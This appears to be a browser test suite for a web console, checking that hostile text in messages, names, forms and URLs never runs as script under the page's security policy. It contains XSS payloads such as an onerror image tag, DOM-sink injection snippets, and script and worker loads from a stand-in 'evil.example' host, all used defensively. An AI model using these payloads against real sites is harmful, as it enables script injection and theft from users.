"""Hostile text on every page in a real browser: nothing runs, and it is shown as text."""

from __future__ import annotations

import json
import re
from contextlib import asynccontextmanager
from dataclasses import replace
from pathlib import Path
from urllib.parse import quote

from console import create_app
from core.access import Role
from core.casebook import Agent
from core.types import Leg
from tests.conftest import NOON
from tests.console.conftest import Desk
from tests.console.door_kit import WORDS, with_password
from tests.console.fakes import a_case, a_line
from tests.console.routes_table import DOOR, NEEDS
from tests.console.test_browser import RealClock, browsing, fresh, served, sign_in
from tests.console.test_browser import anyio_backend as anyio_backend  # noqa: PLC0414
from tests.console.test_browser import browser as browser  # noqa: PLC0414
from tests.console.test_browser import pytestmark as pytestmark  # noqa: PLC0414
from tests.console.test_case_page import everywhere

CORPUS = [
    json.loads(line)["text"]
    for line in Path(__file__).with_name("hostile.jsonl").read_text().splitlines()
]
# The numbers of two cases: of every word as a message, and of one message of 2 MB.
ALL, HUGE = 800, 900
# What the corpus calls when it runs, and what a browser refused to let run.
CANARY = """
window.hits = [];
window.pwn = () => window.hits.push("ran");
document.addEventListener("securitypolicyviolation", (event) =>
  window.hits.push(`${event.violatedDirective} ${event.blockedURI} ${event.sample}`));
"""
# What no page of ours has, whatever is written in it.
TRACES = """() => {
  const every = [...document.querySelectorAll("*")];
  const handlers = every.filter((e) => [...e.attributes].some((a) => /^on/i.test(a.name)));
  const ours = (e) => /^\\/static\\//.test(e.getAttribute("src"));
  const scripts = every.filter((e) => e.matches("script") && !ours(e));
  const live = every.filter((e) => e.matches(
    "iframe, object, embed, base, meta[http-equiv], style, .words img, .words a, .words svg, "
    + "[href^='javascript' i], [action^='javascript' i], [src^='data' i], [srcdoc], [style], "
    + "[href*='evil.example']"
  ));
  const found = [...handlers, ...scripts, ...live].map((e) => e.outerHTML.slice(0, 200));
  return [...window.hits, ...found];
}"""
SINKS = {
    "innerHTML": "document.body.innerHTML = bad",
    "outerHTML": "document.body.firstElementChild.outerHTML = bad",
    "insertAdjacentHTML": "document.body.insertAdjacentHTML('beforeend', bad)",
    "write": "document.write(bad)",
    "parser": "new DOMParser().parseFromString(bad, 'text/html')",
    "fragment": "document.createRange().createContextualFragment(bad)",
    "srcdoc": "document.createElement('iframe').srcdoc = bad",
    "template": "document.createElement('template').innerHTML = bad",
    "script": "document.createElement('script').src = 'https://evil.example/x.js'",
    "data script": "document.createElement('script').src = 'data:text/javascript,pwn()'",
    "script text": "document.createElement('script').text = 'pwn()'",
    "handler": "document.body.setAttribute('onclick', 'pwn()')",
    "timeout": "setTimeout('pwn()', 0)",
    "policy": "trustedTypes.createPolicy('another', { createHTML: (text) => text })",
    "worker": "new Worker('https://evil.example/x.js')",
}


@asynccontextmanager
async def watched(browser, size: str = "wide"):
    """A page on which everything that runs is noticed."""
    async with browsing(browser, size) as page:
        page.dialogs = []
        page.on("dialog", lambda dialog: page.dialogs.append(dialog.message))
        await page.add_init_script(CANARY)
        yield page


async def harmless(page) -> None:
    assert await page.evaluate(TRACES) == []
    assert page.dialogs == []
    assert page.faults == []


def hostile_desk(url: str) -> Desk:
    """Every hostile text as a message, as a name, and everywhere in cases of their own."""
    desk = Desk(RealClock(), url)
    lines = [
        a_line(words, by=words, native_id=str(n), key=f"k{n}", leg=Leg.PUBLIC)
        for n, words in enumerate(CORPUS)
    ]
    desk.book.add(a_case(ALL, author_name="all of it"), *lines)
    for number, words in enumerate(CORPUS[::9], start=1000):
        case = a_case(number, author_name=words, author_id=words, subject=words, reason=words)
        desk.book.add(case, a_line(words, by=words))
    everywhere(desk, "".join(CORPUS[:120]))
    huge = ("<img src=x onerror=pwn()>" * 90_000)[: 2 * 1024 * 1024]
    desk.book.add(a_case(HUGE, author_name="huge"), a_line(huge, by="huge"))
    for number, words in enumerate(CORPUS[::5]):
        agent = Agent(id=f"agent{number}", name=words, created_at=NOON, role=Role.AGENT)
        desk.door.admit(agent)
    services = replace(desk.services(), notices=tuple(CORPUS[:20]))
    desk.app = create_app(services)
    return desk


@asynccontextmanager
async def hostile():
    import socket

    with socket.socket() as found:
        found.bind(("127.0.0.1", 0))
        url = f"http://127.0.0.1:{found.getsockname()[1]}"
    async with served(hostile_desk(url)) as desk:
        yield desk


def addresses(desk) -> list[str]:
    """Every page there is, with what stands in the desk in the place of ids."""
    case = a_case(ALL).id
    known = {"case_id": case, "platform": "replay", "author_id": "u1", "kind": "delete"}
    found = []
    for name in sorted({*NEEDS, *DOOR}):
        method, _, path = name.partition(" ")
        if method == "GET" and not path.startswith(("/events", "/static", "/sign-in/company")):
            path = re.sub(r"\{(\w+)(?::path)?\}", lambda at: known.get(at[1], "none"), path)
            found.append(path)
    return found


def test_the_corpus_is_large_and_no_text_stands_in_it_twice():
    assert len(CORPUS) >= 150
    assert len(set(CORPUS)) == len(CORPUS)


async def test_nothing_runs_on_any_page(browser):
    async with hostile() as desk, watched(browser) as page:
        await sign_in(page, desk)
        seen = 0
        for path in addresses(desk):
            answer = await page.context.request.get(f"{desk.url}{path}", max_redirects=0)
            if not answer.headers.get("content-type", "").startswith("text/html"):
                continue
            await page.goto(f"{desk.url}{path}")
            await page.wait_for_load_state("load")
            page.faults = [each for each in page.faults if "404" not in each]
            await harmless(page)
            seen += answer.status == 200
        assert seen >= 12


async def test_hostile_words_in_addresses_run_nowhere(browser):
    async with hostile() as desk, watched(browser) as page:
        await sign_in(page, desk)
        for words in CORPUS[3::60]:
            said = quote(words[:300])
            for path in (
                f"/?view={said}&after={said}",
                f"/case/{said[:200]}",
                f"/sign-in?token={said}",
            ):
                await page.goto(f"{desk.url}{path}")
                await harmless(page)


async def test_a_conversation_shows_every_word_as_a_word(browser):
    async with hostile() as desk, watched(browser) as page:
        await sign_in(page, desk)
        # opened by htmx, so through the policy that lets its answers pass
        await page.click(f"#row-{a_case(ALL).id}")
        await page.wait_for_selector(f'[data-case="{a_case(ALL).id}"]')
        shown = await page.locator(".thread .words").all_text_contents()
        assert len(shown) == len(CORPUS)
        assert sum("onerror" in each for each in shown) > 20
        assert sum("script" in each for each in shown) > 10
        await harmless(page)
        # and what comes while the page is open
        for words in CORPUS[:20]:
            desk.book.say(a_case(ALL).id, a_line(words + " again", by=words))
        await page.locator(".thread .words").nth(len(CORPUS) + 19).wait_for()
        await harmless(page)


async def test_a_message_of_two_megabytes_is_text(browser):
    async with hostile() as desk, watched(browser) as page:
        await sign_in(page, desk)
        await page.goto(f"{desk.url}/case/{a_case(HUGE).id}")
        await page.wait_for_selector("body[data-ready] .thread .words")
        (words,) = await page.locator(".thread .words").all_text_contents()
        assert len(words) > 1_500_000
        await harmless(page)


async def test_hostile_forms_come_back_as_words(browser):
    async with hostile() as desk, watched(browser, "phone") as page:
        case = desk.book.add(*fresh(901, "hello"))
        await with_password(desk)
        await sign_in(page, desk)
        for words in CORPUS[::50]:
            await page.goto(f"{desk.url}/people")
            await page.locator("summary h2").first.click()
            await page.fill("#identity", "new")
            await page.eval_on_selector("#identity", "(e) => e.removeAttribute('pattern')")
            await page.fill("#identity", words.replace("\x00", "")[:30] or "x")
            await page.fill("#new-name", words.replace("\x00", "")[:70])
            await page.locator("#new-name").press("Enter")
            await page.wait_for_load_state("load")
            await harmless(page)
            await page.goto(f"{desk.url}/case/{case.id}")
            await page.wait_for_selector("body[data-ready]")
            await page.locator(".note-box > summary").first.click()
            note = page.locator(f"#note-{case.id}")
            await note.fill(words.replace("\x00", "")[:2000])
            await note.press("Control+Enter")
            await page.wait_for_selector("text=Note added" if words.strip() else "body")
            await harmless(page)


async def test_a_string_never_becomes_markup(browser):
    async with served() as desk, watched(browser) as page:
        desk.book.add(*fresh(1, "hello"))
        await sign_in(page, desk)
        for name, code in SINKS.items():
            outcome = await page.evaluate(
                f"() => {{ const bad = '<img src=x onerror=pwn()>'; try {{ {code}; }}"
                " catch (error) { return error.name; } return 'done'; }"
            )
            assert outcome in {"TypeError", "EvalError", "SecurityError"}, name
        assert "ran" not in await page.evaluate("window.hits")
        assert page.dialogs == []


async def test_the_page_still_works_under_the_policy(browser):
    async with served() as desk, watched(browser) as page:
        case = desk.book.add(*fresh(1, "My withdrawal is pending"))
        await sign_in(page, desk)
        await page.click(f"#row-{case.id}")
        await page.wait_for_selector("#case")
        await page.keyboard.press("c")
        await page.wait_for_selector(".held.agent")
        await harmless(page)


async def test_a_passkey_from_making_to_signing_in(browser):
    async with served_at_localhost() as desk, browsing(browser) as page:
        driver = await page.context.new_cdp_session(page)
        await driver.send("WebAuthn.enable")
        options = {
            "protocol": "ctap2",
            "transport": "internal",
            "hasResidentKey": True,
            "hasUserVerification": True,
            "isUserVerified": True,
            "automaticPresenceSimulation": True,
        }
        await driver.send("WebAuthn.addVirtualAuthenticator", {"options": options})
        await sign_in(page, desk)
        await page.goto(f"{desk.url}/account")
        await page.fill("#passkey-name", "laptop")
        await page.get_by_role("button", name="Add a passkey").click()
        await page.wait_for_selector("text=The passkey is added")
        await page.get_by_role("button", name="Sign out everywhere", exact=True).click()
        await page.wait_for_selector("#password")
        await page.get_by_role("button", name="Sign in with a passkey").click()
        await page.wait_for_selector("#feed")
        assert page.faults == []


@asynccontextmanager
async def served_at_localhost():
    import socket

    with socket.socket() as found:
        found.bind(("127.0.0.1", 0))
        port = found.getsockname()[1]
    async with served(Desk(RealClock(), f"http://localhost:{port}")) as desk:
        yield desk


async def test_a_password_and_its_words_for_a_wrong_one(browser):
    async with served() as desk, watched(browser, "phone") as page:
        await with_password(desk)
        await page.goto(f"{desk.url}/sign-in")
        await page.fill("#name", "mira")
        await page.fill("#password", "not it at all")
        await page.keyboard.press("Enter")
        await page.wait_for_selector("text=do not go together")
        assert await page.input_value("#name") == "mira"
        await page.fill("#password", WORDS)
        await page.keyboard.press("Enter")
        await page.wait_for_selector("#feed")
        page.faults = [each for each in page.faults if "401" not in each]
        await harmless(page)
